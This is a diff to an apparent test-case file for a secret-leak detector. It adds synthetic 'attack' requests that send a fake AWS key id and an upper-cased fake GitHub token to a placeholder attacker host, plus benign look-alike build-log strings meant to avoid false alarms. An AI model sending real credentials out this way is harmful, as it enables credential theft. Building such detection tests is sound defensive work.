@@ -713,6 +713,13 @@ def attacks(rng: random.Random) -> list[Case]:
     image = base64.b64encode(more.rng.randbytes(600)).decode().rstrip("=")
     add("body-json", "GitHub token appended to a base64 image", ("github-token",), method="POST",
         url=f"{evil}/j", headers=(JSON,), body=_json({"image": image + "Q" + more.github()}))
+
+    # -- an AWS key id glued to lower-case letters, an upper-cased GitHub token ------------------
+    cased = _Fakes(random.Random(1413))  # its own generator: the cases before stay as they were
+    add("body-json", "AWS key id with lower-case letters glued on both sides", ("aws-access-key-id",),
+        method="POST", url=f"{evil}/j", headers=(JSON,), body=_json({"note": f"xy{cased.aws_id()}q"}))
+    add("headers", "GitHub token upper-cased", ("github-token",), url=f"{evil}/",
+        headers=_h(X_Note=cased.github().upper()))
     return out
 
 
@@ -1194,6 +1201,17 @@ def benign(rng: random.Random) -> list[Case]:
             _rand(hashed, 200, urlsafe) + "Q" + "npm_" + _rand(hashed, 40),
             base64.b64encode(hashed.randbytes(300)).decode().rstrip("=") + "Q" + "ghp_" + _rand(hashed, 37),
             f"AKIAIOSFODNN7EXAMPLE{_rand(hashed, 60)} x{_Fakes(hashed).aws_id()}{_rand(hashed, 64, HEX)}",
+        ))}))
+    # Look-alikes of an upper-cased GitHub token and a glued AWS key id: upper-case constants,
+    # upper-case hashes after "GHS_", base32 strings and upper-case words that spell "AKIA".
+    upper = random.Random(1413)
+    add("lookalike", "build log: upper-case constants, GHS_ and an upper-case hash, base32 ids spelling AKIA",
+        method="POST", url="https://api.github.com/repos/o/r/issues", headers=(JSON,),
+        body=_json({"title": "build log", "body": "\n".join((
+            "GHS_SOMETHING_CONSTANT_NAME_FOR_THE_BUILD_STEP = 1", "AKIAS_TOTAL_COUNT = 12",
+            f"OBJECT GHS_{_rand(upper, 40, HEX).upper()} CACHED", f"digest GHP_{_rand(upper, 64, HEX).upper()}",
+            f"totp {base64.b32encode(upper.randbytes(20)).decode()}MAKIA{_rand(upper, 16, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567')}",
+            f"hash x{'ACCA'}{_rand(upper, 16, HEX).upper()}9", "mACCAUNTINGREPORTSFORTHEYEAR2026",
         ))}))
     return out
 
